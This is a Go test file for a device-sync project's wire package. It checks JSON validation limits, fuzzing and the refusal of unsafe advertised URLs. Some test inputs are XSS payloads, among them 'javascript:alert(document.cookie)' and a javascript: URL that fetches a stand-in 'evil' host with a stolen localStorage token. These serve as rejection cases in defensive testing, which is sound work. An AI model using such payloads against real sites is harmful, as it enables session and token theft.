package wire

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/outpost-edge/outpost/pkg/hlc"
	"github.com/outpost-edge/outpost/pkg/shadow"
)

func TestCheckJSON(t *testing.T) {
	deep := func(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }
	deepObj := func(n int) string { return strings.Repeat(`{"a":`, n) + "1" + strings.Repeat("}", n) }
	tests := []struct {
		name, in string
		want     error // nil, ErrJSONSyntax, or ErrInvalid for a rule
	}{
		{"object", `{"a":1,"b":[true,false,null],"c":{"d":"e"}}`, nil},
		{"scalars", ` -0.5e-3 `, nil},
		{"empty containers", `{"a":[],"b":{}}`, nil},
		{"escapes", `"\"\\\/\b\f\n\r\t\u00e9\ud83d\ude00"`, nil},
		{"utf-8", `{"ключ":"値 😀"}`, nil},
		{"depth 32", deep(32), nil},
		{"object depth 32", deepObj(32), nil},
		{"largest float", `1.7976931348623157e308`, nil},
		{"big integer", `123456789012345678901234567890`, nil},
		{"underflow is 0", `1e-400`, nil},
		{"zero with big exponent", `0.000e999999999999`, nil},
		{"tiny times huge", `0.0001e310`, nil},

		{"depth 33", deep(33), ErrInvalid},
		{"object depth 33", deepObj(33), ErrInvalid},
		{"5000 levels", deep(5000), ErrInvalid},
		{"1e400", `{"v":1e400}`, ErrInvalid},
		{"-1e400", `[-1e400]`, ErrInvalid},
		{"just above the largest float", `1.8e308`, ErrInvalid},
		{"400 digits", "1" + strings.Repeat("0", 400), ErrInvalid},
		{"huge exponent", `1e99999999999999999999`, ErrInvalid},
		{"invalid UTF-8 in a value", "{\"a\":\"\xff\"}", ErrInvalid},
		{"invalid UTF-8 in a key", "{\"\xc3\x28\":1}", ErrInvalid},
		{"truncated UTF-8", "\"\xe2\x82\"", ErrInvalid},
		{"overlong UTF-8", "\"\xc0\xaf\"", ErrInvalid},
		{"encoded surrogate", "\"\xed\xa0\x80\"", ErrInvalid},
		{"lone high surrogate", `"\ud800"`, ErrInvalid},
		{"lone low surrogate", `"\udc00x"`, ErrInvalid},
		{"high then non-low", `"\ud800\u0041"`, ErrInvalid},

		{"empty", ``, ErrJSONSyntax},
		{"NaN", `NaN`, ErrJSONSyntax},
		{"Inf", `[Infinity]`, ErrJSONSyntax},
		{"leading zero", `01`, ErrJSONSyntax},
		{"bare fraction", `.5`, ErrJSONSyntax},
		{"no fraction digits", `1.`, ErrJSONSyntax},
		{"no exponent digits", `1e+`, ErrJSONSyntax},
		{"trailing comma", `[1,]`, ErrJSONSyntax},
		{"trailing data", `{} x`, ErrJSONSyntax},
		{"two values", `1 2`, ErrJSONSyntax},
		{"unterminated", `{"a":"b`, ErrJSONSyntax},
		{"control character", "\"a\nb\"", ErrJSONSyntax},
		{"bad escape", `"\x41"`, ErrJSONSyntax},
		{"short unicode escape", `"\u12"`, ErrJSONSyntax},
		{"single quotes", `{'a':1}`, ErrJSONSyntax},
		{"unquoted key", `{a:1}`, ErrJSONSyntax},
		{"mismatched", `[1}`, ErrJSONSyntax},
		{"missing colon", `{"a" 1}`, ErrJSONSyntax},
		{"truncated literal", `tru`, ErrJSONSyntax},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := CheckJSON([]byte(tt.in), MaxJSONDepth)
			switch {
			case tt.want == nil && err != nil:
				t.Fatalf("refused: %v", err)
			case tt.want != nil && err == nil:
				t.Fatal("accepted")
			case tt.want == ErrJSONSyntax && !errors.Is(err, ErrJSONSyntax):
				t.Fatalf("err %v, want a syntax error", err)
			case tt.want == ErrInvalid && (!errors.Is(err, ErrInvalid) || errors.Is(err, ErrJSONSyntax)):
				t.Fatalf("err %v, want a rule error (ErrInvalid, not ErrJSONSyntax)", err)
			}
			// Whatever passes is JSON to encoding/json too, and a syntax
			// error is one to it as well.
			if valid := json.Valid([]byte(tt.in)); err == nil && !valid || errors.Is(err, ErrJSONSyntax) && valid {
				t.Fatalf("CheckJSON %v, json.Valid %v", err, valid)
			}
		})
	}
}

func TestCheckJSONDepthIsTheCallers(t *testing.T) {
	doc := []byte(strings.Repeat("[", MaxSyncJSONDepth) + strings.Repeat("]", MaxSyncJSONDepth))
	if err := CheckJSON(doc, MaxJSONDepth); err == nil {
		t.Fatal("a sync-depth document passed at the payload depth")
	}
	if err := CheckJSON(doc, MaxSyncJSONDepth); err != nil {
		t.Fatalf("sync depth: %v", err)
	}
	// A state value at the payload depth fits in a push batch.
	v := strings.Repeat("[", MaxJSONDepth) + strings.Repeat("]", MaxJSONDepth)
	batch := `{"edge":"e1","first_seq":1,"changes":[{"kind":"desired","device":"d","doc":{"f":{"v":` + v + `,"t":{"w":1,"l":0}}}}]}`
	if err := CheckJSON([]byte(batch), MaxSyncJSONDepth); err != nil {
		t.Fatalf("push batch holding a value of depth %d: %v", MaxJSONDepth, err)
	}
}

func TestCheckJSONDoesNotAllocate(t *testing.T) {
	b := []byte(telemetry)
	if n := testing.AllocsPerRun(100, func() { _ = CheckJSON(b, MaxJSONDepth) }); n != 0 {
		t.Fatalf("%v allocations per check, want 0", n)
	}
}

func TestValidateStateAppliesTheJSONRules(t *testing.T) {
	for name, v := range map[string]string{
		"1e400":        `1e400`,
		"invalid utf8": "\"\xff\"",
		"depth 33":     strings.Repeat("[", 33) + strings.Repeat("]", 33),
	} {
		err := ValidateState(map[string]json.RawMessage{"f": json.RawMessage(v)})
		if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), `state field "f"`) {
			t.Errorf("%s: %v, want ErrInvalid naming the field", name, err)
		}
	}
}

func TestCheckAdvertise(t *testing.T) {
	for _, ok := range []string{"", "http://10.0.0.5:8080", "https://edge-7.example.com", "https://example.com/outpost/", "http://[::1]:8080"} {
		if err := CheckAdvertise(ok); err != nil {
			t.Errorf("%q refused: %v", ok, err)
		}
	}
	for _, bad := range []string{
		"javascript:alert(1)", "JavaScript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>",
		"ftp://example.com", "//example.com", "/relative", "example.com:8080", "http://", "http:///path",
		"https://user:pass@example.com", "https://user@example.com", "http://exa mple.com", "http://example.com/\n",
		"https://" + strings.Repeat("a", MaxAdvertise),
	} {
		if err := CheckAdvertise(bad); !errors.Is(err, ErrInvalid) {
			t.Errorf("%q: %v, want ErrInvalid", bad, err)
		}
	}
}

// Edge directory: the advertise URL was not validated, so javascript: was
// served to phones. The cloud refuses such a heartbeat (Heartbeat.Validate),
// and a directory entry recorded before the rule is served without its URL.
func TestSecurityAdvertiseJavascriptURL(t *testing.T) {
	h := Heartbeat{Edge: "e1", Advertise: "javascript:fetch('//evil/'+localStorage.token)"}
	if err := h.Validate(); !errors.Is(err, ErrInvalid) {
		t.Fatalf("heartbeat with a javascript: advertise URL: %v, want ErrInvalid", err)
	}
	h.Advertise = "https://edge.example.com"
	if err := h.Validate(); err != nil {
		t.Fatalf("https advertise URL refused: %v", err)
	}
	dir := []Edge{{ID: "old", Advertise: "javascript:alert(1)", Healthy: true}, {ID: "good", Advertise: "http://10.0.0.1:8080", Healthy: true}}
	for _, n := range Nearest(dir, Location{}, "", 10) {
		if n.ID == "old" && n.URL != "" {
			t.Fatalf("nearest serves %q to phones", n.URL)
		}
		if n.ID == "good" && n.URL != "http://10.0.0.1:8080" {
			t.Fatalf("valid URL lost: %q", n.URL)
		}
	}
}

func TestScrubDoc(t *testing.T) {
	good := shadowDoc(map[string]string{"a": `1`, "b": `{"c":"d"}`})
	if out, n := ScrubDoc(good); n != 0 || len(out) != 2 {
		t.Fatalf("clean doc: %d scrubbed", n)
	}
	bad := shadowDoc(map[string]string{"a": `1`, "b": `1e400`, "c": "\"\xff\""})
	out, n := ScrubDoc(bad)
	if n != 2 || string(out["b"].Value) != "null" || string(out["c"].Value) != "null" || string(out["a"].Value) != "1" {
		t.Fatalf("scrubbed %d: %v", n, out)
	}
	if string(bad["b"].Value) != "1e400" {
		t.Fatal("ScrubDoc modified its input")
	}
}

func shadowDoc(state map[string]string) shadow.Doc {
	raw := make(map[string]json.RawMessage, len(state))
	for k, v := range state {
		raw[k] = json.RawMessage(v)
	}
	return shadow.Patch(raw, hlc.New(1732170000123, 0))
}

// telemetry is a typical sensor payload.
const telemetry = `{"ts":1732170000123,"id":"msg-000123","metrics":{"temperature":21.5,"humidity":48.25,"pressure":1013.2,"battery":3.71,"rssi":-67}}`

func BenchmarkCheckJSON(b *testing.B) {
	p := []byte(telemetry)
	b.SetBytes(int64(len(p)))
	b.ReportAllocs()
	for b.Loop() {
		if err := CheckJSON(p, MaxJSONDepth); err != nil {
			b.Fatal(err)
		}
	}
}

func FuzzCheckJSON(f *testing.F) {
	for _, s := range []string{telemetry, `{"a":[1,2,{"b":null}]}`, `1e400`, "\"\xff\"", `"\ud800"`, `[[[[]]]]`, `-0.0e-0`} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		err := CheckJSON(b, MaxJSONDepth)
		valid := json.Valid(b)
		if err == nil && !valid {
			t.Fatalf("CheckJSON accepted what encoding/json refuses: %q", b)
		}
		if errors.Is(err, ErrJSONSyntax) && valid {
			t.Fatalf("CheckJSON calls valid JSON a syntax error (%v): %q", err, b)
		}
		if err == nil {
			var v any
			if uerr := json.Unmarshal(b, &v); uerr != nil {
				t.Fatalf("accepted JSON encoding/json cannot decode (%v): %q", uerr, b)
			}
		}
	})
}
